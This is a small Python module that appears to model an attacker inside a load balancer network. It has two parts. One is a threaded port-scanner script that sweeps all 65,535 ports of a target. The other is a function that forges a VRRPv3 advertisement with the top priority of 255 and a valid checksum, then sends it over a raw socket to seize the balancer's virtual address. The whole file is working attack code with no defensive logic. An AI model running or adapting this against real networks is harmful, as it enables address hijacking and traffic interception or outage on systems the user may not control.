"""What somebody in the network of the balancers can try: look for open ports, and claim their address."""

from __future__ import annotations

import socket
import struct

PROTOCOL = 112  # VRRP
SCAN = """import socket, sys
from concurrent.futures import ThreadPoolExecutor
def answers(port):
    with socket.socket() as link:
        link.settimeout(2)
        return link.connect_ex((sys.argv[1], port)) == 0
with ThreadPoolExecutor(64) as lanes:
    print(*[port for port, found in enumerate(lanes.map(answers, range(1, 65536)), 1) if found])
"""


def advertisement(source: str, target: str, address: str) -> bytes:
    """VRRP version 3: I am in charge, with the highest priority (RFC 5798, 5.1)."""
    head = struct.pack("!BBBBH", 0x31, 51, 255, 1, 30)
    body = socket.inet_aton(address)
    length = len(head) + 2 + len(body)
    pseudo = socket.inet_aton(source) + socket.inet_aton(target) + struct.pack("!BBH", 0, PROTOCOL, length)
    words = struct.unpack(f"!{(len(pseudo) + length - 2) // 2}H", pseudo + head + body)
    total = sum(words)
    total = (total & 0xFFFF) + (total >> 16)
    return head + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + body


def claim(source: str, target: str, address: str) -> None:
    """Send that to a balancer, by this machine's own address."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, PROTOCOL) as link:
        link.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
        link.sendto(advertisement(source, target, address), (target, 0))
